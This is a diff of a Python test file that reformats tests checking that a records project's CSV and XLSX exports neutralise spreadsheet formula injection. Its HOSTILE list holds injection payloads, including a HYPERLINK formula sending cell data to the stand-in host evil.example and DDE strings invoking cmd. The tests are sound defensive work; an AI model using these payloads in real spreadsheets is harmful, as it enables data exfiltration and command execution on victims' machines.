@@ -16,8 +16,14 @@ from scanstation.custody import audit_export, personal_data
 from scanstation.spreadsheet_cells import safe_cell
 from tests.test_custody_fixtures import add_dossier, number_for
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"点击查看")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def _as_spreadsheet(path, tmp_path):
@@ -40,9 +46,23 @@ def _no_formula(rows, sheet):
         assert any(cell == "'" + text for row in rows for cell in row), text
 
 
-@pytest.mark.parametrize("value, expected", [
-    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
-    ("参保人员登记表", "参保人员登记表"), ("", ""), (12, 12), (-3, -3), (None, None), ("a=1", "a=1")])
+@pytest.mark.parametrize(
+    "value, expected",
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@A1", "'@A1"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("参保人员登记表", "参保人员登记表"),
+        ("", ""),
+        (12, 12),
+        (-3, -3),
+        (None, None),
+        ("a=1", "a=1"),
+    ],
+)
 def test_safe_cell(value, expected):
     assert safe_cell(value) == expected
 
@@ -66,6 +86,7 @@ def test_audit_export_escapes_formula_cells(home, sessions, tmp_path):
 @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
 def test_digitisation_catalog_export_escapes_formula_cells(home, sessions, tmp_path, fmt):
     from scanstation.export.catalog_export import export_catalog
+
     for i, text in enumerate(HOSTILE, 1):
         add_dossier(home, number_for(2019, "D30", i), year=2019, retention="D30", title=text)
     with home.catalog.write() as conn:
@@ -78,4 +99,4 @@ def test_digitisation_catalog_export_escapes_formula_cells(home, sessions, tmp_p
         sheet = openpyxl.load_workbook(out).active
         assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
         titles = {c.value for row in sheet.iter_rows() for c in row}
-        assert set(HOSTILE) <= titles                                # kept as text, exactly
+        assert set(HOSTILE) <= titles  # kept as text, exactly
